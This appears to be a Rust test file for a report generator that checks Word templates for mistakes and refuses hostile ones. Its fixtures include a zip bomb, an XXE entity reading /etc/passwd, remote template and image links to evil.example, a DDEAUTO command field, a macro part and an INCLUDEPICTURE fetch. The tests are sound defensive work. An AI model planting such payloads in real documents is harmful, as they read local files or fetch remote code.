//! Templates that are wrong by mistake or on purpose.

use std::io::{Cursor, Write};

use cairn_report::{Language, MAX_TEMPLATE, check_template, docx_from_template};
use zip::write::SimpleFileOptions;

use crate::audit;
use crate::templates::{paragraph, template_with};

fn refused(template: &[u8]) -> String {
    check_template(template).expect_err("a bad template").to_string()
}

#[test]
fn mistakes_are_told_with_what_to_do() {
    for (body, why) in [
        (
            paragraph("{{ audit.nmae }}"),
            "“audit.nmae”, which is not known there. Known names: applicability, audit.authors",
        ),
        (paragraph("{{ audit.name"), "{{ without }}"),
        (paragraph("{{#requirements}}"), "need paragraphs of their own"),
        (paragraph("{{/requirements}}"), "{{/requirements}} without {{#requirements}}"),
        (paragraph("All: {{#requirements}}{{ name }}{{/requirements}}"), "need paragraphs of their own"),
        (paragraph("{{ requirements }}"), "“requirements” is a list"),
        (paragraph("See {{ block.summary }}"), "needs a paragraph of its own"),
        (paragraph("{{ block.everything }}"), "“block.everything”, which is not known"),
        (
            [paragraph("{{#requirements}}"), paragraph("{{ owner }}"), paragraph("{{/requirements}}")].concat(),
            "“owner”",
        ),
    ] {
        let told = refused(&template_with(&body, &[]));
        assert!(told.contains(why), "{body}: {told}");
    }
    let footer = format!("<w:ftr>{}</w:ftr>", paragraph("{{ block.summary }}"));
    assert!(refused(&template_with("", &[("word/footer2.xml", &footer)])).contains("only be used in the text"));
}

#[test]
fn what_is_no_document_is_refused() {
    for bytes in [&b""[..], b"PK\x03\x04 nothing", b"%PDF-1.7", &vec![b'x'; MAX_TEMPLATE + 1]] {
        assert!(refused(bytes).contains("template"), "{}", refused(bytes));
    }
    let sheet = cairn_report::xlsx(&audit(), Language::English).expect("a workbook");
    assert!(refused(&sheet).contains("not a Word document"));
    assert!(refused(&template_with("<w:p>", &[])).contains("cannot be read"));
}

#[test]
fn a_bomb_is_not_unpacked() {
    let mut archive = zip::ZipWriter::new(Cursor::new(Vec::new()));
    archive.start_file("word/media/image1.png", SimpleFileOptions::default()).expect("a file");
    let zeros = vec![0; 1024 * 1024];
    (0..80).for_each(|_| archive.write_all(&zeros).expect("zeros"));
    let bomb = archive.finish().expect("an archive").into_inner();
    assert!(bomb.len() < 1024 * 1024);
    assert!(refused(&bomb).contains("too large when unpacked"));
}

#[test]
fn entities_are_not_followed() {
    let main = r#"<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"#;
    assert!(refused(&template_with("", &[("word/document.xml", main)])).contains("document type definition"));
}

#[test]
fn nothing_is_fetched_or_run_when_a_report_is_opened() {
    let relation = |kind: &str, target: &str| {
        format!(
            r#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>"#
        )
    };
    for (kind, target) in [
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("image", "file://server/share"),
        ("hyperlink", "javascript:x"),
    ] {
        let relations = relation(kind, target);
        let told = refused(&template_with("", &[("word/_rels/settings.xml.rels", &relations)]));
        assert!(told.contains("refers to a file outside"), "{told}");
    }
    let link = relation("hyperlink", "https://example.org/policy");
    check_template(&template_with("", &[("word/_rels/document.xml.rels", &link)])).expect("links are fine");
    assert!(refused(&template_with("", &[("word/vbaProject.bin", "x")])).contains("macros"));
    let field = |parts: &[&str]| {
        let run = |code: &&str| format!("<w:r><w:instrText>{code}</w:instrText></w:r>");
        let codes = parts.iter().map(run).collect::<Vec<_>>().concat();
        format!(
            r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{codes}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#
        )
    };
    assert!(refused(&template_with(&field(&[" DD", "EAUTO c:\\x"]), &[])).contains("DDEAUTO"));
    let simple = r#"<w:p><w:fldSimple w:instr="INCLUDEPICTURE https://evil.example/x"/></w:p>"#;
    assert!(refused(&template_with(simple, &[])).contains("INCLUDEPICTURE"));
    check_template(&template_with(&field(&[" HYPERLINK \\l &quot;x&quot; "]), &[])).expect("links are fine");
}

#[test]
fn lists_in_lists_end_somewhere() {
    let begin: String = (0..6).map(|_| paragraph("{{#requirements}}")).collect();
    let end: String = (0..6).map(|_| paragraph("{{/requirements}}")).collect();
    let template = template_with(&format!("{begin}{}{end}", paragraph("{{ audit.description }}")), &[]);
    check_template(&template).expect("small with one requirement");
    let mut report = audit();
    report.audit.description = "x".repeat(1024 * 1024);
    let told = docx_from_template(&report, Language::English, &template).expect_err("23 to the sixth").to_string();
    assert!(told.contains("larger than 128 MiB"), "{told}");
}
